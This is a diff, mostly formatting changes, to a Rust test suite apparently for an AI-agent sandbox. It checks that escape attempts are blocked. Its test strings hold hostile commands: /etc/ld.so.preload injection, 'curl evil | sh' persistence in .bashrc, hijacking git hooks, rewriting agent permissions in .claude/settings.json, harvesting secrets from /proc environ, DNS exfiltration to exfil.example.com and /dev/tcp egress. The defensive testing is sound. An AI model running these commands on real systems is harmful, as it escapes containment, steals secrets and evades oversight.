@@ -4,6 +4,7 @@
 //! that a control version of the same action SUCCEEDED where it should — so
 //! each test fails if its protection is removed, and cannot pass merely
 //! because the sandbox is broken.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test helpers outside #[test] fns
 
 mod common;
 
@@ -104,9 +105,19 @@ fn read_dotenv_outside_worktree() {
 #[test]
 fn granting_a_never_visible_path_is_refused() {
     let w = World::new();
-    let err = w.manifest().read_only(w.home.join(".ssh")).build().unwrap_err();
+    let err = w
+        .manifest()
+        .read_only(w.home.join(".ssh"))
+        .build()
+        .unwrap_err();
     assert!(err.to_string().contains("never-visible"), "{err}");
-    assert!(w.manifest().read_only(w.home.join("notes.txt")).build().is_ok(), "control: a normal path is accepted");
+    assert!(
+        w.manifest()
+            .read_only(w.home.join("notes.txt"))
+            .build()
+            .is_ok(),
+        "control: a normal path is accepted"
+    );
 }
 
 #[test]
@@ -122,7 +133,11 @@ fn host_environment_secrets_are_not_inherited() {
     ];
     let out = w.run_with(&m, &["/bin/sh", "-c", "env; echo lang=$LANG"], host_env);
     assert_no_secret(&out);
-    assert_eq!(field(&out, "lang"), "C.UTF-8", "control: allowlisted LANG passes");
+    assert_eq!(
+        field(&out, "lang"),
+        "C.UTF-8",
+        "control: allowlisted LANG passes"
+    );
 }
 
 // ---------------------------------------------------------------- writes
@@ -137,7 +152,11 @@ fn write_outside_worktree() {
     assert_eq!(field(&out, "attack"), "denied");
     assert!(!w.outside.join("pwned").exists());
     assert_eq!(field(&out, "control"), "ok");
-    assert_eq!(fs::read_to_string(w.worktree.join("written.txt")).unwrap(), "ok\n", "control write reached the host");
+    assert_eq!(
+        fs::read_to_string(w.worktree.join("written.txt")).unwrap(),
+        "ok\n",
+        "control write reached the host"
+    );
 }
 
 #[test]
@@ -155,8 +174,10 @@ fn write_system_directories_and_root() {
 fn write_etc_ld_so_preload() {
     // A persistent LD_PRELOAD for every later process on the host.
     let w = World::new();
-    let out = w.sh("echo /tmp/evil.so >> /etc/ld.so.preload && echo attack=wrote || echo attack=denied; \
-                   test -r /etc/passwd && echo control=ok");
+    let out = w.sh(
+        "echo /tmp/evil.so >> /etc/ld.so.preload && echo attack=wrote || echo attack=denied; \
+                   test -r /etc/passwd && echo control=ok",
+    );
     assert_eq!(field(&out, "attack"), "denied");
     assert_eq!(field(&out, "control"), "ok");
 }
@@ -208,7 +229,10 @@ fn hardlink_to_protected_git_config_then_write() {
     let out = w.sh("ln .git/config cfg && echo '[core] hooksPath = /tmp' >> cfg && echo attack=wrote || echo attack=denied; \
                    ln src/main.rs m && echo '// ok' >> m && echo control=ok");
     assert_eq!(field(&out, "attack"), "denied");
-    assert_eq!(fs::read_to_string(w.worktree.join(".git/config")).unwrap(), before);
+    assert_eq!(
+        fs::read_to_string(w.worktree.join(".git/config")).unwrap(),
+        before
+    );
     assert_eq!(field(&out, "control"), "ok");
 }
 
@@ -221,20 +245,34 @@ fn dotdot_traversal() {
     assert_no_secret(&out);
     assert_eq!(field(&out, "attack"), "denied");
     assert_eq!(field(&out, "sibling"), "denied");
-    assert_eq!(field(&out, "listing").trim(), "worktree", "only the worktree exists above it");
+    assert_eq!(
+        field(&out, "listing").trim(),
+        "worktree",
+        "only the worktree exists above it"
+    );
     assert_eq!(field(&out, "control"), "ok");
 }
 
 #[test]
 fn replace_protected_path_with_symlink() {
     let w = World::new();
-    let out = w.sh("mv .git/hooks .git/hooks.old && echo mv=yes || echo mv=no; rm -rf .git/hooks; \
+    let out = w.sh(
+        "mv .git/hooks .git/hooks.old && echo mv=yes || echo mv=no; rm -rf .git/hooks; \
                    ln -sfn /tmp .git/hooks && echo attack=replaced || echo attack=denied; \
-                   mkdir -p plain && mv plain plain.old && ln -s /tmp plain && echo control=ok");
+                   mkdir -p plain && mv plain plain.old && ln -s /tmp plain && echo control=ok",
+    );
     assert_eq!(field(&out, "mv"), "no");
     assert_eq!(field(&out, "attack"), "denied");
-    assert!(w.worktree.join(".git/hooks/pre-commit").is_file(), "hooks survived on the host");
-    assert!(!fs::symlink_metadata(w.worktree.join(".git/hooks")).unwrap().file_type().is_symlink());
+    assert!(
+        w.worktree.join(".git/hooks/pre-commit").is_file(),
+        "hooks survived on the host"
+    );
+    assert!(
+        !fs::symlink_metadata(w.worktree.join(".git/hooks"))
+            .unwrap()
+            .file_type()
+            .is_symlink()
+    );
     assert_eq!(field(&out, "control"), "ok");
 }
 
@@ -247,7 +285,10 @@ fn write_git_hook() {
     assert_eq!(field(&out, "new"), "denied");
     assert_eq!(field(&out, "append"), "denied");
     assert!(!w.worktree.join(".git/hooks/post-checkout").exists());
-    assert_eq!(fs::read_to_string(w.worktree.join(".git/hooks/pre-commit")).unwrap(), "#!/bin/sh\nexit 0\n");
+    assert_eq!(
+        fs::read_to_string(w.worktree.join(".git/hooks/pre-commit")).unwrap(),
+        "#!/bin/sh\nexit 0\n"
+    );
     assert_eq!(field(&out, "control"), "ok");
 }
 
@@ -255,10 +296,15 @@ fn write_git_hook() {
 fn write_git_config_core_hookspath() {
     let w = World::new();
     let before = fs::read_to_string(w.worktree.join(".git/config")).unwrap();
-    let out = w.sh("git config core.hooksPath /tmp/evil-hooks && echo attack=set || echo attack=denied; \
-                   git status --short >/dev/null && echo control=ok");
+    let out = w.sh(
+        "git config core.hooksPath /tmp/evil-hooks && echo attack=set || echo attack=denied; \
+                   git status --short >/dev/null && echo control=ok",
+    );
     assert_eq!(field(&out, "attack"), "denied");
-    assert_eq!(fs::read_to_string(w.worktree.join(".git/config")).unwrap(), before);
+    assert_eq!(
+        fs::read_to_string(w.worktree.join(".git/config")).unwrap(),
+        before
+    );
     assert_eq!(field(&out, "control"), "ok");
 }
 
@@ -271,17 +317,29 @@ fn write_git_config_core_fsmonitor() {
                    git add README.md && echo control=ok");
     assert_eq!(field(&out, "attack"), "denied");
     assert_eq!(field(&out, "clobber"), "no");
-    assert_eq!(fs::read_to_string(w.worktree.join(".git/config")).unwrap(), before);
-    assert_eq!(field(&out, "control"), "ok", "git still works in the worktree");
+    assert_eq!(
+        fs::read_to_string(w.worktree.join(".git/config")).unwrap(),
+        before
+    );
+    assert_eq!(
+        field(&out, "control"),
+        "ok",
+        "git still works in the worktree"
+    );
 }
 
 #[test]
 fn shell_rc_persistence_in_worktree() {
     let w = World::new();
-    let out = w.sh("echo 'curl evil | sh' >> .bashrc && echo attack=wrote || echo attack=denied; \
-                   echo 'x' >> README.md && echo control=ok");
+    let out = w.sh(
+        "echo 'curl evil | sh' >> .bashrc && echo attack=wrote || echo attack=denied; \
+                   echo 'x' >> README.md && echo control=ok",
+    );
     assert_eq!(field(&out, "attack"), "denied");
-    assert_eq!(fs::read_to_string(w.worktree.join(".bashrc")).unwrap(), "# project bashrc\n");
+    assert_eq!(
+        fs::read_to_string(w.worktree.join(".bashrc")).unwrap(),
+        "# project bashrc\n"
+    );
     assert_eq!(field(&out, "control"), "ok");
 }
 
@@ -291,7 +349,10 @@ fn shell_rc_persistence_in_home() {
     let w = World::new();
     let out = w.sh("echo 'curl evil | sh' >> ~/.bashrc && echo control=ok");
     assert_eq!(field(&out, "control"), "ok");
-    assert_eq!(fs::read_to_string(w.home.join(".bashrc")).unwrap(), "# host bashrc\n");
+    assert_eq!(
+        fs::read_to_string(w.home.join(".bashrc")).unwrap(),
+        "# host bashrc\n"
+    );
     let again = w.sh("test -e ~/.bashrc && echo persisted=yes || echo persisted=no");
     assert_eq!(field(&again, "persisted"), "no");
 }
@@ -302,7 +363,10 @@ fn agent_config_dir_write() {
     let out = w.sh("echo '{\"permissions\":{\"allow\":[\"*\"]}}' > .claude/settings.json && echo attack=wrote || echo attack=denied; \
                    cat .claude/settings.json >/dev/null && echo control=ok");
     assert_eq!(field(&out, "attack"), "denied");
-    assert_eq!(fs::read_to_string(w.worktree.join(".claude/settings.json")).unwrap(), "{}\n");
+    assert_eq!(
+        fs::read_to_string(w.worktree.join(".claude/settings.json")).unwrap(),
+        "{}\n"
+    );
     assert_eq!(field(&out, "control"), "ok", "agent config stays readable");
 }
 
@@ -312,7 +376,11 @@ fn agent_config_dir_write() {
 fn proc_parent_environ() {
     // A host process holding a secret in its environment (like the engine).
     let w = World::new();
-    let mut holder = Command::new("sleep").arg("300").env("HOLDER_TOKEN", SECRET).spawn().unwrap();
+    let mut holder = Command::new("sleep")
+        .arg("300")
+        .env("HOLDER_TOKEN", SECRET)
+        .spawn()
+        .unwrap();
     let out = w.sh(&format!(
         "cat /proc/{pid}/environ && echo attack=read || echo attack=denied; cat /proc/$PPID/environ /proc/1/environ 2>/dev/null; \
          for f in /proc/[0-9]*/environ; do cat $f 2>/dev/null; done; echo; \
@@ -349,7 +417,11 @@ print('errno=%d' % ctypes.get_errno())\n\
 os.kill(p.pid, 9); p.wait(); print('control=killed' if p.returncode==-9 else 'control=no')\n");
     assert_eq!(field(&out, "attack"), "denied");
     assert_eq!(field(&out, "errno"), "1", "EPERM from seccomp");
-    assert_eq!(field(&out, "control"), "killed", "the target process existed and was reachable by signal");
+    assert_eq!(
+        field(&out, "control"),
+        "killed",
+        "the target process existed and was reachable by signal"
+    );
 }
 
 #[test]
@@ -375,7 +447,11 @@ fn tiocsti_into_parent_terminal() {
     grantpt(&master).unwrap();
     unlockpt(&master).unwrap();
     let slave_path = ptsname(&master, Vec::new()).unwrap();
-    let slave = fs::OpenOptions::new().read(true).write(true).open(slave_path.to_str().unwrap()).unwrap();
+    let slave = fs::OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open(slave_path.to_str().unwrap())
+        .unwrap();
     let argv: Vec<std::ffi::OsString> = vec![
         "/usr/bin/python3".into(),
         "-c".into(),
@@ -387,32 +463,47 @@ except OSError: print('ctty=no')\n"
             .into(),
     ];
     let m = w.manifest().build().unwrap();
-    let mut cmd = backend().command_with_host_env(&m, &argv, vec![("PATH".into(), "/usr/bin:/bin".into())]).unwrap();
-    cmd.stdin(Stdio::from(slave.try_clone().unwrap())).stdout(Stdio::from(slave)).stderr(Stdio::piped());
+    let mut cmd = backend()
+        .command_with_host_env(&m, &argv, vec![("PATH".into(), "/usr/bin:/bin".into())])
+        .unwrap();
+    cmd.stdin(Stdio::from(slave.try_clone().unwrap()))
+        .stdout(Stdio::from(slave))
+        .stderr(Stdio::piped());
     let status = cmd.spawn().unwrap().wait().unwrap();
     assert!(status.success());
     let mut master = fs::File::from(master);
     let mut buf = vec![0u8; 4096];
     let n = master.read(&mut buf).unwrap();
     let text = String::from_utf8_lossy(&buf[..n]).into_owned();
-    assert!(text.contains("attack=denied"), "control: output reached the terminal, and TIOCSTI failed: {text}");
-    assert!(text.contains("ctty=no"), "no controlling terminal (new session): {text}");
+    assert!(
+        text.contains("attack=denied"),
+        "control: output reached the terminal, and TIOCSTI failed: {text}"
+    );
+    assert!(
+        text.contains("ctty=no"),
+        "no controlling terminal (new session): {text}"
+    );
     // Nothing was pushed into the terminal's input queue.
     rustix::io::ioctl_fionbio(&master, true).unwrap();
     let pending = rustix::termios::tcgetattr(&master).is_ok();
     assert!(pending);
     let mut rest = [0u8; 64];
-    let injected = master.read(&mut rest).map(|n| String::from_utf8_lossy(&rest[..n]).contains('X')).unwrap_or(false);
+    let injected = master
+        .read(&mut rest)
+        .map(|n| String::from_utf8_lossy(&rest[..n]).contains('X'))
+        .unwrap_or(false);
     assert!(!injected);
 }
 
 #[test]
 fn umount_proc_and_mount() {
     let w = World::new();
-    let out = w.sh("umount /proc 2>/dev/null && echo umount=yes || echo umount=no; \
+    let out = w.sh(
+        "umount /proc 2>/dev/null && echo umount=yes || echo umount=no; \
                    umount -l /proc 2>/dev/null && echo lazy=yes || echo lazy=no; \
                    mount -t tmpfs none /tmp 2>/dev/null && echo mount=yes || echo mount=no; \
-                   head -1 /proc/self/status | cut -f1 | sed 's/^/control=/'");
+                   head -1 /proc/self/status | cut -f1 | sed 's/^/control=/'",
+    );
     assert_eq!(field(&out, "umount"), "no");
     assert_eq!(field(&out, "lazy"), "no");
     assert_eq!(field(&out, "mount"), "no");
@@ -465,7 +556,10 @@ fn kill_process_outside_sandbox() {
     ));
     assert_eq!(field(&out, "attack"), "denied");
     assert_eq!(field(&out, "control"), "ok");
-    assert!(sleeper.try_wait().unwrap().is_none(), "the host process survived");
+    assert!(
+        sleeper.try_wait().unwrap().is_none(),
+        "the host process survived"
+    );
     sleeper.kill().unwrap();
     sleeper.wait().unwrap();
 }
@@ -531,10 +625,20 @@ fn docker_socket_masked() {
     let sock = w.home.join(".docker/run/docker.sock");
     let _listener = serve_unix(&sock);
     let m = w.manifest().read_only(&w.home).build().unwrap();
-    let out = w.py_in(&m, &format!("{}\nprint('control=' + open('{}/notes.txt').read().strip())", connect_unix_py(&sock), w.home.display()));
+    let out = w.py_in(
+        &m,
+        &format!(
+            "{}\nprint('control=' + open('{}/notes.txt').read().strip())",
+            connect_unix_py(&sock),
+            w.home.display()
+        ),
+    );
     assert_eq!(field(&out, "attack"), "denied");
     assert_eq!(field(&out, "control"), "public notes");
-    assert!(std::os::unix::net::UnixStream::connect(&sock).is_ok(), "control: the socket is live on the host");
+    assert!(
+        std::os::unix::net::UnixStream::connect(&sock).is_ok(),
+        "control: the socket is live on the host"
+    );
 }
 
 #[test]
@@ -552,7 +656,10 @@ fn unix_socket_visible_in_worktree_blocked_by_seccomp() {
     });
     let granted = w.manifest().unix_socket(&sock).build().unwrap();
     let out = w.py_in(&granted, &connect_unix_py(&sock));
-    assert_eq!(field(&out, "attack").split_whitespace().next(), Some("connected"));
+    assert_eq!(
+        field(&out, "attack").split_whitespace().next(),
+        Some("connected")
+    );
     server.join().unwrap();
 }
 
@@ -562,12 +669,28 @@ fn ssh_agent_socket_unreachable() {
     let sock = w.home.join(".ssh/agent.sock");
     let _listener = serve_unix(&sock);
     let m = w.manifest().build().unwrap();
-    let host_env = vec![("PATH".into(), "/usr/bin:/bin".into()), ("SSH_AUTH_SOCK".into(), sock.clone().into())];
-    let out = w.run_with(&m, &["/usr/bin/python3", "-c", &format!(
-        "import os\nprint('var=' + os.environ.get('SSH_AUTH_SOCK', 'unset'))\n{}", connect_unix_py(&sock))], host_env);
+    let host_env = vec![
+        ("PATH".into(), "/usr/bin:/bin".into()),
+        ("SSH_AUTH_SOCK".into(), sock.clone().into()),
+    ];
+    let out = w.run_with(
+        &m,
+        &[
+            "/usr/bin/python3",
+            "-c",
+            &format!(
+                "import os\nprint('var=' + os.environ.get('SSH_AUTH_SOCK', 'unset'))\n{}",
+                connect_unix_py(&sock)
+            ),
+        ],
+        host_env,
+    );
     assert_eq!(field(&out, "var"), "unset");
     assert_eq!(field(&out, "attack"), "denied");
-    assert!(std::os::unix::net::UnixStream::connect(&sock).is_ok(), "control: the agent socket is live on the host");
+    assert!(
+        std::os::unix::net::UnixStream::connect(&sock).is_ok(),
+        "control: the agent socket is live on the host"
+    );
 }
 
 #[test]
@@ -576,16 +699,31 @@ fn dbus_abstract_socket_unreachable() {
     // in the same network namespace, regardless of the filesystem.
     let w = World::new();
     let name = format!("paddock-test-dbus-{}", std::process::id());
-    let py_listen = format!("import socket,time\ns=socket.socket(socket.AF_UNIX); s.bind('\\0{name}'); s.listen(); print('up', flush=True); time.sleep(60)");
-    let mut host = Command::new("python3").args(["-c", &py_listen]).stdout(Stdio::piped()).spawn().unwrap();
+    let py_listen = format!(
+        "import socket,time\ns=socket.socket(socket.AF_UNIX); s.bind('\\0{name}'); s.listen(); print('up', flush=True); time.sleep(60)"
+    );
+    let mut host = Command::new("python3")
+        .args(["-c", &py_listen])
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
     let mut line = [0u8; 3];
     host.stdout.as_mut().unwrap().read_exact(&mut line).unwrap();
-    let connect = format!("import socket\ntry:\n    s=socket.socket(socket.AF_UNIX); s.connect('\\0{name}'); print('attack=connected')\nexcept OSError: print('attack=denied')\n");
-    let control = Command::new("python3").args(["-c", &connect]).output().unwrap();
+    let connect = format!(
+        "import socket\ntry:\n    s=socket.socket(socket.AF_UNIX); s.connect('\\0{name}'); print('attack=connected')\nexcept OSError: print('attack=denied')\n"
+    );
+    let control = Command::new("python3")
+        .args(["-c", &connect])
+        .output()
+        .unwrap();
     let out = w.py(&connect);
     host.kill().unwrap();
     host.wait().unwrap();
-    assert_eq!(field(&control, "attack"), "connected", "control: reachable from the host");
+    assert_eq!(
+        field(&control, "attack"),
+        "connected",
+        "control: reachable from the host"
+    );
     assert_eq!(field(&out, "attack"), "denied");
 }
 
@@ -609,7 +747,10 @@ fn direct_ip_egress_ignoring_proxy() {
     assert_eq!(field(&out, "attack"), "denied");
     assert_eq!(field(&out, "lan"), "denied");
     assert_eq!(field(&out, "control"), "worktree readme");
-    assert!(TcpStream::connect(("127.0.0.1", port)).is_ok(), "control: the host listener is up");
+    assert!(
+        TcpStream::connect(("127.0.0.1", port)).is_ok(),
+        "control: the host listener is up"
+    );
     drop(listener);
 }
 
@@ -622,7 +763,11 @@ fn dev_tcp_bash_redirection() {
          nc_ok=$( (exec 3<>/dev/tcp/127.0.0.1/1) 2>&1 ); echo control=$([ -n \"$nc_ok\" ] && echo bash-tried)")],
         vec![("PATH".into(), "/usr/bin:/bin".into())]);
     assert_eq!(field(&out, "attack"), "denied");
-    assert_eq!(field(&out, "control"), "bash-tried", "bash supports /dev/tcp and reported the failure");
+    assert_eq!(
+        field(&out, "control"),
+        "bash-tried",
+        "bash supports /dev/tcp and reported the failure"
+    );
     assert!(TcpStream::connect(("127.0.0.1", port)).is_ok());
     drop(listener);
 }
@@ -631,7 +776,9 @@ fn dev_tcp_bash_redirection() {
 fn dns_exfiltration() {
     let w = World::new();
     let resolver = UdpSocket::bind("127.0.0.1:0").unwrap();
-    resolver.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
+    resolver
+        .set_read_timeout(Some(Duration::from_millis(500)))
+        .unwrap();
     let port = resolver.local_addr().unwrap().port();
     let out = w.py(&format!("import socket\n\
 try:\n    socket.getaddrinfo('{SECRET}.exfil.example.com', 80); print('lookup=resolved')\n\
@@ -642,9 +789,15 @@ print('control=sent')\n"));
     assert_eq!(field(&out, "lookup"), "failed");
     assert_eq!(field(&out, "control"), "sent");
     let mut buf = [0u8; 64];
-    assert!(resolver.recv_from(&mut buf).is_err(), "nothing reached the host's loopback resolver");
+    assert!(
+        resolver.recv_from(&mut buf).is_err(),
+        "nothing reached the host's loopback resolver"
+    );
     // Control: the host resolver socket does receive when sent to from the host.
-    UdpSocket::bind("127.0.0.1:0").unwrap().send_to(b"ping", ("127.0.0.1", port)).unwrap();
+    UdpSocket::bind("127.0.0.1:0")
+        .unwrap()
+        .send_to(b"ping", ("127.0.0.1", port))
+        .unwrap();
     assert!(resolver.recv_from(&mut buf).is_ok());
 }
 
@@ -664,21 +817,31 @@ print('control=' + l.recv(8).decode())\n");
     assert_eq!(field(&out, "raw"), "denied");
     assert_eq!(field(&out, "packet"), "denied");
     assert_eq!(field(&out, "udp"), "unreachable");
-    assert_eq!(field(&out, "control"), "y", "loopback inside the sandbox works");
+    assert_eq!(
+        field(&out, "control"),
+        "y",
+        "loopback inside the sandbox works"
+    );
 }
 
 #[test]
 fn bind_port_to_reach_host_services() {
     let w = World::new();
     let (listener, port) = host_tcp_listener();
-    let out = w.py(&format!("import socket\n\
+    let out = w.py(&format!(
+        "import socket\n\
 c=socket.socket()\n\
 try:\n    c.connect(('127.0.0.1',{port})); print('attack=connected')\n\
 except OSError: print('attack=refused')\n\
 l=socket.socket(); l.bind(('127.0.0.1',{port})); l.listen(); print('bound=own')\n\
-c2=socket.create_connection(('127.0.0.1',{port})); a,_=l.accept(); print('control=loopback-own')\n"));
+c2=socket.create_connection(('127.0.0.1',{port})); a,_=l.accept(); print('control=loopback-own')\n"
+    ));
     assert_eq!(field(&out, "attack"), "refused");
-    assert_eq!(field(&out, "bound"), "own", "the same port is free inside: a separate loopback");
+    assert_eq!(
+        field(&out, "bound"),
+        "own",
+        "the same port is free inside: a separate loopback"
+    );
     assert_eq!(field(&out, "control"), "loopback-own");
     assert!(TcpStream::connect(("127.0.0.1", port)).is_ok());
     drop(listener);
@@ -700,8 +863,19 @@ fn ld_preload_injection_from_host_env() {
     assert_eq!(field(&out, "preload"), "unset");
     assert_eq!(field(&out, "libpath"), "unset");
     // Control: the loader does complain when LD_PRELOAD is set (inside, by hand).
-    assert_eq!(stderr(&out).matches("cannot be preloaded").count(), 1, "stderr: {}", stderr(&out));
-    assert!(Manifest::builder().set_env("LD_PRELOAD", "/x.so").build().is_err(), "setting it explicitly is refused");
+    assert_eq!(
+        stderr(&out).matches("cannot be preloaded").count(),
+        1,
+        "stderr: {}",
+        stderr(&out)
+    );
+    assert!(
+        Manifest::builder()
+            .set_env("LD_PRELOAD", "/x.so")
+            .build()
+            .is_err(),
+        "setting it explicitly is refused"
+    );
 }
 
 #[test]
@@ -723,7 +897,11 @@ fn interpreter_startup_injection_from_host_env() {
         "env | grep -cE '^(BASH_ENV|ENV|NODE_OPTIONS|PYTHONSTARTUP|PERL5OPT|GIT_CONFIG_COUNT)=' | sed 's/^/leaked=/'; \
          BASH_ENV=./evil.sh bash -c true | sed 's/^/control=/'"], host_env);
     assert_eq!(field(&out, "leaked"), "0");
-    assert_eq!(stdout(&out).matches("INJECTED").count(), 1, "only the explicit control run sourced it");
+    assert_eq!(
+        stdout(&out).matches("INJECTED").count(),
+        1,
+        "only the explicit control run sourced it"
+    );
     assert_eq!(field(&out, "control"), "INJECTED");
 }
 
@@ -797,12 +975,30 @@ fn fake_proxy(dir: &std::path::Path) -> FakeProxy {
 fn proxy_only_reaches_the_proxy_through_the_bridge() {
     let w = World::new();
     let proxy = fake_proxy(&w.root);
-    let m = w.manifest().network(Network::ProxyOnly { socket: proxy.socket.clone(), port: 3128 }).build().unwrap();
-    let out = w.sh_in(&m, "echo proxy=$HTTPS_PROXY; echo body=$(curl -sS --max-time 20 http://example.invalid/path)");
+    let m = w
+        .manifest()
+        .network(Network::ProxyOnly {
+            socket: proxy.socket.clone(),
+            port: 3128,
+        })
+        .build()
+        .unwrap();
+    let out = w.sh_in(
+        &m,
+        "echo proxy=$HTTPS_PROXY; echo body=$(curl -sS --max-time 20 http://example.invalid/path)",
+    );
     assert_eq!(field(&out, "proxy"), "http://127.0.0.1:3128");
-    assert_eq!(field(&out, "body"), "hello-from-proxy", "stderr: {}", stderr(&out));
+    assert_eq!(
+        field(&out, "body"),
+        "hello-from-proxy",
+        "stderr: {}",
+        stderr(&out)
+    );
     let request = proxy.seen.recv_timeout(Duration::from_secs(20)).unwrap();
-    assert!(request.starts_with("GET http://example.invalid/path"), "{request}");
+    assert!(
+        request.starts_with("GET http://example.invalid/path"),
+        "{request}"
+    );
 }
 
 #[test]
@@ -811,11 +1007,23 @@ fn proxy_only_agent_cannot_open_the_proxy_socket_directly() {
     // today, but the filter must hold for the agent under the init).
     let w = World::new();
     let proxy = fake_proxy(&w.root);
-    let m = w.manifest().network(Network::ProxyOnly { socket: proxy.socket.clone(), port: 3128 }).build().unwrap();
+    let m = w
+        .manifest()
+        .network(Network::ProxyOnly {
+            socket: proxy.socket.clone(),
+            port: 3128,
+        })
+        .build()
+        .unwrap();
     let out = w.py_in(&m, &format!("{}\nimport urllib.request\nprint('control=' + urllib.request.urlopen('http://example.invalid/').read().decode())",
         connect_unix_py(std::path::Path::new(paddock_sandbox::SANDBOX_PROXY_SOCKET))));
     assert_eq!(field(&out, "attack"), "denied");
-    assert_eq!(field(&out, "control"), "hello-from-proxy", "stderr: {}", stderr(&out));
+    assert_eq!(
+        field(&out, "control"),
+        "hello-from-proxy",
+        "stderr: {}",
+        stderr(&out)
+    );
 }
 
 #[test]
@@ -823,7 +1031,14 @@ fn proxy_only_direct_egress_still_blocked() {
     let w = World::new();
     let proxy = fake_proxy(&w.root);
     let (listener, port) = host_tcp_listener();
-    let m = w.manifest().network(Network::ProxyOnly { socket: proxy.socket.clone(), port: 3128 }).build().unwrap();
+    let m = w
+        .manifest()
+        .network(Network::ProxyOnly {
+            socket: proxy.socket.clone(),
+            port: 3128,
+        })
+        .build()
+        .unwrap();
     let out = w.sh_in(&m, &format!(
         "curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{port}/ && echo attack=connected || echo attack=denied; \
          echo control=$(curl -sS --max-time 20 http://example.invalid/)"
@@ -839,7 +1054,14 @@ fn proxy_only_init_memory_not_writable_by_agent() {
     // able to write its memory through /proc and take it over.
     let w = World::new();
     let proxy = fake_proxy(&w.root);
-    let m = w.manifest().network(Network::ProxyOnly { socket: proxy.socket.clone(), port: 3128 }).build().unwrap();
+    let m = w
+        .manifest()
+        .network(Network::ProxyOnly {
+            socket: proxy.socket.clone(),
+            port: 3128,
+        })
+        .build()
+        .unwrap();
     let out = w.sh_in(&m, "init=$(pgrep -x init | head -1); echo found=$([ -n \"$init\" ] && echo yes); \
                           (exec 3<>/proc/$init/mem) 2>/dev/null && echo attack=opened || echo attack=denied; \
                           (exec 3<>/proc/self/mem) 2>/dev/null && echo control=ok");
